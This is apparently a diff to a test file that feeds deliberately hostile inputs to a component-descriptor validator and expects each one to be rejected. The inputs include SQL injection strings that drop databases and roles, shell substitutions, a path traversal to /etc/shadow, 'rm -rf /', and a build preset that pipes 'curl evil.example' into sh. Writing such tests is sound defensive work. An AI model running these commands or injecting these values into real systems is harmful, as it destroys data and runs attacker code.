@@ -86,6 +86,11 @@ const HOSTILE: { name: string; bytes: () => Uint8Array; expect: RegExp; warning?
   // Descriptors name no Dockerfile (the preset decides): the key is unknown (a schema warning) and read by nothing.
   { name: 'a dockerfile path outside the component', bytes: () => encode(withBuild('{preset: docker, context: ., dockerfile: "../../../etc/shadow"}')), expect: /Plan ready/, warning: true },
   { name: 'shell metacharacters in the build preset name', bytes: () => encode(withBuild('{preset: "nodejs; curl evil.example | sh"}')), expect: /`build\.preset` must match/ },
+  ...["pf'; DROP DATABASE postgres; --", 'pf"; DROP ROLE postgres; --', '$(id)'].map((name) => ({
+    name: `the database resource name ${JSON.stringify(name)}`,
+    bytes: () => encode(original.replace(/^  - name: portfolio-db$/m, `  - name: ${JSON.stringify(name)}`)),
+    expect: /`\.choreo\/component\.yaml:10:11` `resources\.0\.name` must match/,
+  })),
   ...["x'; DROP DATABASE postgres; --", 'a"; DROP ROLE postgres; --', '$(touch /tmp/pave-pwned)', '`id`', 'a;rm -rf /', 'a\\u0000b', 'a|b', '../../etc', 'x'.repeat(300)].map((name) => ({
     name: `the component name ${JSON.stringify(name).slice(0, 40)}`,
     bytes: () => encode(withName(JSON.stringify(name))),
